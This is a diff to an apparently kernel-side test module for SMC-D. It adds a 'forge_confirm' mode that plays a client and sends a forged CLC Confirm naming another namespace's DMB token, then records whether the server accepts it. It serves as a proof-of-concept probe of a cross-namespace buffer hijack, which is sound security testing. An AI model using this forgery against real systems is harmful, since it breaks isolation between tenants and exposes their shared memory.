@@ -27,6 +27,12 @@
  * names the DMB TOKEN of size class CLASS, somebody else's, and records
  * the client's answer in the forge_result parameter: "confirm" (the client
  * took the DMB), "decline 0xCODE", or "error -ERRNO"; "pending" before.
+ * Writing the same to forge_confirm plays the client instead: it connects
+ * to 127.0.0.1:PORT in PID's netns, proposes SMC-Dv2 as the last client
+ * the forger answered did (same device, same EIDs: what an attacker sees
+ * of its own kernel), and answers the Accept with a Confirm naming TOKEN;
+ * the result is "decline 0xCODE", or "silence" when the server took the
+ * Confirm (a server does not answer one).
  * The CLC messages are built by af_smc's own wire code (kernel/wire).
  * Held connections are released when the module is removed.
  */
@@ -262,10 +268,15 @@ MODULE_PARM_DESC(connect, "\"MODE PORT\": connect to 127.0.0.1:PORT and misbehav
 
 struct bp_forge {
 	struct work_struct work;
-	struct socket *listener;	/* in the attacker's netns */
+	struct socket *sock;		/* in the attacker's netns */
+	bool client;			/* forge_confirm: sock connects */
+	__be16 port;
 	u64 token;
 	u8 class;
 };
+
+/* The last genuine Proposal the forger saw; result_lock guards the pointer. */
+static struct smc_clc_proposal *bp_template;
 
 /*
  * Lock order: the sysfs parameter lock, forge_lock (the slot), then
@@ -357,6 +368,98 @@ static int bp_forge_accept(struct bp_forge *f, struct socket *conn,
 	return 0;
 }
 
+static void bp_keep_template(const struct smc_clc_proposal *p)
+{
+	struct smc_clc_proposal *copy, *old;
+
+	if (p->hdr.type != SMC_CLC_PROPOSAL)
+		return;
+	copy = kmemdup(p, sizeof(*p), GFP_KERNEL);
+	if (!copy)
+		return;
+	spin_lock(&result_lock);
+	old = bp_template;
+	bp_template = copy;
+	spin_unlock(&result_lock);
+	kfree(old);
+}
+
+static int bp_send_clc(struct socket *sock, const struct smc_clc_msg *msg, u8 *buf)
+{
+	size_t len;
+
+	if (smc_clc_encode(msg, buf, SMC_CLC_MAX_MSG_LEN, &len))
+		return -EINVAL;
+	bp_send(sock, buf, len);
+	return 0;
+}
+
+/* The forging client: Proposal, Accept, forged Confirm, then the answer. */
+static void bp_forge_confirm(struct bp_forge *f)
+{
+	struct sockaddr_in sin = {
+		.sin_family = AF_INET,
+		.sin_addr.s_addr = htonl(INADDR_LOOPBACK),
+		.sin_port = f->port,
+	};
+	struct smc_clc_msg *msg = kzalloc(sizeof(*msg), GFP_KERNEL);
+	u8 *buf = kmalloc(SMC_CLC_MAX_MSG_LEN, GFP_KERNEL);
+	struct smc_clc_accept_confirm *ac;
+	char res[sizeof(forge_result)];
+	int rc = -ENOMEM;
+
+	if (!msg || !buf)
+		goto out;
+	spin_lock(&result_lock);
+	if (bp_template)
+		msg->proposal = *bp_template;
+	spin_unlock(&result_lock);
+	rc = -ENOENT;		/* no client has proposed to the forger yet */
+	if (msg->hdr.type != SMC_CLC_PROPOSAL || !msg->proposal.ism_gid_cnt)
+		goto out;
+	f->sock->sk->sk_rcvtimeo = 2 * HZ;
+	rc = kernel_connect(f->sock, (struct sockaddr *)&sin, sizeof(sin), 0);
+	if (!rc)
+		rc = bp_send_clc(f->sock, msg, buf);
+	if (!rc)
+		rc = bp_recv_clc(f->sock, buf, SMC_CLC_MAX_MSG_LEN);
+	if (rc > 0)
+		rc = smc_clc_decode(buf, rc, msg) ? -EPROTO : 0;
+	if (rc)
+		goto out;
+	ac = &msg->accept_confirm;
+	if (ac->hdr.type != SMC_CLC_ACCEPT || ac->hdr.typev1 != SMC_CLC_TYPE_D) {
+		rc = -EPROTO;
+		goto out;
+	}
+	/*
+	 * The server's own Accept, turned into our Confirm: its GID and CHID
+	 * are ours too (one loopback device), its EID is the one agreed. Only
+	 * the DMB is somebody else's. No first contact: no extension to send.
+	 */
+	ac->hdr.type = SMC_CLC_CONFIRM;
+	ac->hdr.typev2 = 0;
+	ac->d.token = f->token;
+	ac->d.dmbe_size = f->class;
+	rc = bp_send_clc(f->sock, msg, buf);
+	if (!rc)
+		rc = bp_recv_clc(f->sock, buf, SMC_CLC_MAX_MSG_LEN);
+	if (rc > 0)
+		rc = smc_clc_decode(buf, rc, msg) ? -EPROTO : 0;
+out:
+	if (rc == -EAGAIN)
+		snprintf(res, sizeof(res), "silence");
+	else if (rc)
+		snprintf(res, sizeof(res), "error %d", rc);
+	else if (msg->hdr.type == SMC_CLC_DECLINE)
+		snprintf(res, sizeof(res), "decline 0x%08x", msg->decline.diagnosis);
+	else
+		snprintf(res, sizeof(res), "error type %u", msg->hdr.type);
+	kfree(buf);
+	kfree(msg);
+	bp_set_result(res);	/* the socket stays until the next forgery */
+}
+
 static void bp_forge_work(struct work_struct *work)
 {
 	struct bp_forge *f = container_of(work, struct bp_forge, work);
@@ -366,7 +469,11 @@ static void bp_forge_work(struct work_struct *work)
 	char res[sizeof(forge_result)];
 	int rc;
 
-	rc = msg && buf ? kernel_accept(f->listener, &conn, 0) : -ENOMEM;
+	if (f->client) {
+		bp_forge_confirm(f);
+		return;
+	}
+	rc = msg && buf ? kernel_accept(f->sock, &conn, 0) : -ENOMEM;
 	if (rc)
 		goto out;
 	/* A client that never answers must not keep unload waiting. */
@@ -374,6 +481,8 @@ static void bp_forge_work(struct work_struct *work)
 	rc = bp_recv_clc(conn, buf, SMC_CLC_MAX_MSG_LEN);
 	if (rc > 0)
 		rc = smc_clc_decode(buf, rc, msg) ? -EPROTO : 0;
+	if (!rc)
+		bp_keep_template(&msg->proposal);
 	if (!rc)
 		rc = bp_forge_accept(f, conn, msg, buf);
 	if (!rc)
@@ -402,15 +511,15 @@ static void bp_forge_stop(void)
 {
 	if (!forge)
 		return;
-	/* Ends the work's accept(), if it still waits. */
-	kernel_sock_shutdown(forge->listener, SHUT_RDWR);
+	/* Ends the work's accept() or read, if it still waits. */
+	kernel_sock_shutdown(forge->sock, SHUT_RDWR);
 	flush_work(&forge->work);
-	sock_release(forge->listener);
+	sock_release(forge->sock);
 	kfree(forge);
 	forge = NULL;
 }
 
-static int bp_forge_set(const char *val, const struct kernel_param *kp)
+static int bp_forge_start(const char *val, bool client)
 {
 	struct sockaddr_in sin = {
 		.sin_family = AF_INET,
@@ -435,22 +544,26 @@ static int bp_forge_set(const char *val, const struct kernel_param *kp)
 		return -ENOMEM;
 	}
 	INIT_WORK(&f->work, bp_forge_work);
+	f->client = client;
+	f->port = htons(port);
 	f->token = token;
 	f->class = class;
 	/* A user socket (kern 0): it holds the namespace it lives in. */
-	rc = __sock_create(net, AF_INET, SOCK_STREAM, IPPROTO_TCP, &f->listener, 0);
+	rc = __sock_create(net, AF_INET, SOCK_STREAM, IPPROTO_TCP, &f->sock, 0);
 	put_net(net);
 	if (rc) {
 		kfree(f);
 		return rc;
 	}
-	tcp_sk(f->listener->sk)->syn_smc = 1;	/* offer SMC */
-	sin.sin_port = htons(port);
-	rc = kernel_bind(f->listener, (struct sockaddr *)&sin, sizeof(sin));
-	if (!rc)
-		rc = kernel_listen(f->listener, 1);
+	tcp_sk(f->sock->sk)->syn_smc = 1;	/* offer SMC */
+	sin.sin_port = f->port;
+	if (!client) {
+		rc = kernel_bind(f->sock, (struct sockaddr *)&sin, sizeof(sin));
+		if (!rc)
+			rc = kernel_listen(f->sock, 1);
+	}
 	if (rc) {
-		sock_release(f->listener);
+		sock_release(f->sock);
 		kfree(f);
 		return rc;
 	}
@@ -463,8 +576,21 @@ static int bp_forge_set(const char *val, const struct kernel_param *kp)
 	return 0;
 }
 
+static int bp_forge_set(const char *val, const struct kernel_param *kp)
+{
+	return bp_forge_start(val, false);
+}
+
+static int bp_forge_confirm_set(const char *val, const struct kernel_param *kp)
+{
+	return bp_forge_start(val, true);
+}
+
 static const struct kernel_param_ops bp_forge_ops = { .set = bp_forge_set };
 module_param_cb(forge, &bp_forge_ops, NULL, 0200);
+static const struct kernel_param_ops bp_forge_confirm_ops = { .set = bp_forge_confirm_set };
+module_param_cb(forge_confirm, &bp_forge_confirm_ops, NULL, 0200);
+MODULE_PARM_DESC(forge_confirm, "\"PID PORT TOKEN CLASS\": connect to 127.0.0.1:PORT in PID's netns and confirm with DMB TOKEN");
 MODULE_PARM_DESC(forge, "\"PID PORT TOKEN CLASS\": answer the next client on 127.0.0.1:PORT in PID's netns with an Accept naming DMB TOKEN");
 
 static void bp_cleanup(void)
@@ -475,6 +601,7 @@ static void bp_cleanup(void)
 	mutex_lock(&forge_lock);
 	bp_forge_stop();
 	mutex_unlock(&forge_lock);
+	kfree(bp_template);
 	if (bp_wq)
 		destroy_workqueue(bp_wq);
 	for (i = 0; i < BP_NR; i++)
